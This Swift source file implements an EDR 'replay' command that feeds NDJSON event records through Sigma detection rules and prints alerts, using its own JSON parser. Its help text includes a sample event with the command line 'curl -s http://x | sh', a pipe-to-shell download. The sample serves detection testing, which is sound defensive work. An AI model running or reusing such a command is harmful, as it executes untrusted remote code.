import ArgumentParser
import EDRCore
import EDRDetect
import EDRSigma
import Foundation

/// `edr replay --rules DIR … [--match-mode all|best] [--format ecs|text] FILE|-`: runs NDJSON
/// records through the Sigma engine and writes alerts with the agent's own alert writer.
struct ReplayCommand: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "replay",
        abstract: "Run NDJSON event records through Sigma rules and print alerts (ECS NDJSON or text).",
        discussion: """
        Each input line is one record:
          {"@timestamp":"2025-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},
           "event":{"Image":"/usr/bin/curl","CommandLine":"curl -s http://x | sh"}}
        `service` may stand beside or instead of `category`; event values are strings, numbers,
        booleans, null or arrays (nested objects are flattened to dotted names). A malformed line is
        reported on standard error with its line number and skipped; the exit status is then 1.
        """)

    enum MatchMode: String, ExpressibleByArgument, CaseIterable { case all, best }
    enum Format: String, ExpressibleByArgument, CaseIterable { case ecs, text }

    @Option(name: .long, help: "A rule file or directory (searched recursively for .yml/.yaml); repeatable.")
    var rules: [String] = []

    @Option(name: .long, help: "all: one alert per matching rule; best: the highest-level match per record.")
    var matchMode: MatchMode = .all

    @Option(name: .long, help: "ecs: ECS NDJSON alerts; text: one readable line per alert.")
    var format: Format = .ecs

    @Argument(help: "NDJSON input file, or - for standard input.")
    var input: String

    func validate() throws {
        if rules.isEmpty { throw ValidationError("give at least one --rules DIR") }
    }

    func run() throws {
        let engine: SigmaEngine
        do { engine = try SigmaEngine.load(paths: rules) } catch {
            throw ValidationError("cannot read rules: \(error.localizedDescription)")
        }
        for d in engine.diagnostics {
            if case .rejected(let r) = d.status {
                FileHandle.standardError.write(Data("warning: rule \(d.path)\(d.ruleID.map { " [\($0)]" } ?? "") rejected: \(r)\n".utf8))
            }
        }
        let handle: FileHandle
        if input == "-" { handle = .standardInput } else {
            guard let h = FileHandle(forReadingAtPath: input) else { throw ValidationError("cannot open \(input)") }
            handle = h
        }
        let context = AlertContext.local()
        var out = Data()
        var malformed = 0
        var lineNo: UInt64 = 0
        var pending = Data()
        func flush() {
            if !out.isEmpty { FileHandle.standardOutput.write(out); out.removeAll(keepingCapacity: true) }
        }
        func handleLine(_ line: Data) {
            lineNo += 1
            if line.allSatisfy({ $0 == 0x20 || $0 == 0x09 || $0 == 0x0D }) { return }
            let event: Event
            do { event = try ReplayRecord.parse(Array(line)) } catch {
                malformed += 1
                FileHandle.standardError.write(Data("line \(lineNo): \(error)\n".utf8))
                return
            }
            var matches = engine.evaluate(event)
            if matchMode == .best, let top = matches.max(by: { $0.rule.level < $1.rule.level }) {
                matches = [matches.first { $0.rule.level == top.rule.level }!]
            }
            for m in matches {
                switch format {
                case .ecs: out.append(contentsOf: AlertEncoder.sigma(event: event, rule: m.rule, sequence: lineNo, context: context))
                case .text: out.append(contentsOf: Array((AlertEncoder.readable(event: event, rule: m.rule) + "\n").utf8))
                }
            }
            if out.count > 1 << 16 { flush() }
        }
        while true {
            let chunk = handle.readData(ofLength: 1 << 16)
            if chunk.isEmpty { break }
            pending.append(chunk)
            var start = pending.startIndex
            while let nl = pending[start...].firstIndex(of: 0x0A) {
                handleLine(pending[start..<nl])
                start = pending.index(after: nl)
            }
            pending = Data(pending[start...])
        }
        if !pending.isEmpty { handleLine(pending) }
        flush()
        if malformed > 0 { throw ExitCode(1) }
    }
}

/// One NDJSON replay record → Event. A small order-preserving JSON reader, so alert fields keep
/// the record's field order and integers stay integers.
enum ReplayRecord {
    struct ParseError: Error, CustomStringConvertible {
        var description: String
    }

    indirect enum J {
        case null, bool(Bool), int(Int64), double(Double), string(String), array([J]), object([(String, J)])
    }

    static func parse(_ bytes: [UInt8]) throws -> Event {
        var p = Parser(b: bytes)
        p.ws()
        let root = try p.value(depth: 0)
        p.ws()
        guard p.i == bytes.count else { throw ParseError(description: "trailing characters after the JSON record") }
        guard case .object(let top) = root else { throw ParseError(description: "record is not a JSON object") }
        func get(_ k: String) -> J? { top.first { $0.0 == k }?.1 }
        guard case .object(let ls)? = get("logsource") else { throw ParseError(description: "missing \"logsource\" object") }
        func lsKey(_ k: String) throws -> String? {
            switch ls.first(where: { $0.0 == k })?.1 {
            case nil, .null?: return nil
            case .string(let s)?: return s
            default: throw ParseError(description: "logsource.\(k) is not a string")
            }
        }
        let logsource = LogSource(product: try lsKey("product"), category: try lsKey("category"), service: try lsKey("service"))
        if logsource.category == nil && logsource.service == nil && logsource.product == nil {
            throw ParseError(description: "logsource names no product, category or service")
        }
        guard case .object(let fields)? = get("event") else { throw ParseError(description: "missing \"event\" object") }
        var ts = 0.0
        switch get("@timestamp") {
        case .string(let s)?:
            guard let t = SigmaTimestamp.parse(s) else { throw ParseError(description: "unparsable @timestamp '\(s)'") }
            ts = t
        case .int(let i)?: ts = Double(i)
        case .double(let d)?: ts = d
        case nil, .null?: break
        default: throw ParseError(description: "@timestamp is not a string or number")
        }
        var out: [(String, FieldValue)] = []
        func add(_ prefix: String, _ v: J) {
            switch v {
            case .object(let kv): for (k, x) in kv { add(prefix.isEmpty ? k : prefix + "." + k, x) }
            default: out.append((prefix, fv(v)))
            }
        }
        for (k, v) in fields { add(k, v) }
        return Event(logsource: logsource, timestamp: ts, fields: out)
    }

    static func fv(_ v: J) -> FieldValue {
        switch v {
        case .null: return .null
        case .bool(let b): return .bool(b)
        case .int(let i): return .int(i)
        case .double(let d): return .double(d)
        case .string(let s): return .string(s)
        case .array(let a): return .array(a.map(fv))
        case .object(let kv): return .string("{" + kv.map { "\($0.0)" }.joined(separator: ",") + "}")
        }
    }

    struct Parser {
        let b: [UInt8]
        var i = 0

        mutating func ws() { while i < b.count, b[i] == 0x20 || b[i] == 0x09 || b[i] == 0x0A || b[i] == 0x0D { i += 1 } }

        func err(_ what: String) -> ParseError { ParseError(description: "invalid JSON at byte \(i + 1): \(what)") }

        mutating func value(depth: Int) throws -> J {
            if depth > 64 { throw err("nesting too deep") }
            guard i < b.count else { throw err("unexpected end of line") }
            switch b[i] {
            case UInt8(ascii: "{"):
                i += 1; ws()
                var kv: [(String, J)] = []
                if i < b.count, b[i] == UInt8(ascii: "}") { i += 1; return .object(kv) }
                while true {
                    ws()
                    guard i < b.count, b[i] == UInt8(ascii: "\"") else { throw err("expected a key") }
                    let k = try string()
                    ws()
                    guard i < b.count, b[i] == UInt8(ascii: ":") else { throw err("expected ':'") }
                    i += 1; ws()
                    kv.append((k, try value(depth: depth + 1)))
                    ws()
                    guard i < b.count else { throw err("unterminated object") }
                    if b[i] == UInt8(ascii: ",") { i += 1; continue }
                    if b[i] == UInt8(ascii: "}") { i += 1; return .object(kv) }
                    throw err("expected ',' or '}'")
                }
            case UInt8(ascii: "["):
                i += 1; ws()
                var items: [J] = []
                if i < b.count, b[i] == UInt8(ascii: "]") { i += 1; return .array(items) }
                while true {
                    ws()
                    items.append(try value(depth: depth + 1))
                    ws()
                    guard i < b.count else { throw err("unterminated array") }
                    if b[i] == UInt8(ascii: ",") { i += 1; continue }
                    if b[i] == UInt8(ascii: "]") { i += 1; return .array(items) }
                    throw err("expected ',' or ']'")
                }
            case UInt8(ascii: "\""): return .string(try string())
            case UInt8(ascii: "t"): try lit("true"); return .bool(true)
            case UInt8(ascii: "f"): try lit("false"); return .bool(false)
            case UInt8(ascii: "n"): try lit("null"); return .null
            default: return try number()
            }
        }

        mutating func lit(_ s: String) throws {
            let u = Array(s.utf8)
            guard i + u.count <= b.count, Array(b[i..<i + u.count]) == u else { throw err("unexpected token") }
            i += u.count
        }

        mutating func number() throws -> J {
            let start = i
            if i < b.count, b[i] == UInt8(ascii: "-") { i += 1 }
            var isFloat = false
            while i < b.count {
                let c = b[i]
                if c >= 0x30 && c <= 0x39 { i += 1 } else if c == UInt8(ascii: ".") || c == UInt8(ascii: "e") || c == UInt8(ascii: "E") || c == UInt8(ascii: "+") || c == UInt8(ascii: "-") { isFloat = true; i += 1 } else { break }
            }
            let text = String(decoding: b[start..<i], as: UTF8.self)
            if text.isEmpty || text == "-" { throw err("unexpected character") }
            if !isFloat, let v = Int64(text) { return .int(v) }
            guard let d = Double(text), d.isFinite else { throw err("invalid number '\(text)'") }
            return .double(d)
        }

        mutating func string() throws -> String {
            i += 1
            var out: [UInt8] = []
            while true {
                guard i < b.count else { throw err("unterminated string") }
                let c = b[i]
                if c == UInt8(ascii: "\"") { i += 1; break }
                if c < 0x20 { throw err("control character in string") }
                if c != UInt8(ascii: "\\") { out.append(c); i += 1; continue }
                i += 1
                guard i < b.count else { throw err("unterminated escape") }
                let e = b[i]; i += 1
                switch e {
                case UInt8(ascii: "\""): out.append(0x22)
                case UInt8(ascii: "\\"): out.append(0x5C)
                case UInt8(ascii: "/"): out.append(0x2F)
                case UInt8(ascii: "b"): out.append(0x08)
                case UInt8(ascii: "f"): out.append(0x0C)
                case UInt8(ascii: "n"): out.append(0x0A)
                case UInt8(ascii: "r"): out.append(0x0D)
                case UInt8(ascii: "t"): out.append(0x09)
                case UInt8(ascii: "u"):
                    var cp = try hex4()
                    if cp >= 0xD800 && cp < 0xDC00 {
                        guard i + 1 < b.count, b[i] == UInt8(ascii: "\\"), b[i + 1] == UInt8(ascii: "u") else { throw err("lone surrogate") }
                        i += 2
                        let lo = try hex4()
                        guard lo >= 0xDC00 && lo < 0xE000 else { throw err("bad surrogate pair") }
                        cp = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00)
                    } else if cp >= 0xDC00 && cp < 0xE000 { throw err("lone surrogate") }
                    guard let sc = Unicode.Scalar(cp) else { throw err("bad code point") }
                    out.append(contentsOf: Array(String(Character(sc)).utf8))
                default: throw err("bad escape")
                }
            }
            guard let s = String(validating: out, as: UTF8.self) else { throw err("string is not valid UTF-8") }
            return s
        }

        mutating func hex4() throws -> UInt32 {
            guard i + 4 <= b.count else { throw err("short \\u escape") }
            var v: UInt32 = 0
            for _ in 0..<4 {
                let c = b[i]; i += 1
                let d: UInt32
                switch c {
                case 0x30...0x39: d = UInt32(c - 0x30)
                case 0x41...0x46: d = UInt32(c - 0x41 + 10)
                case 0x61...0x66: d = UInt32(c - 0x61 + 10)
                default: throw err("bad hex digit")
                }
                v = v * 16 + d
            }
            return v
        }
    }
}
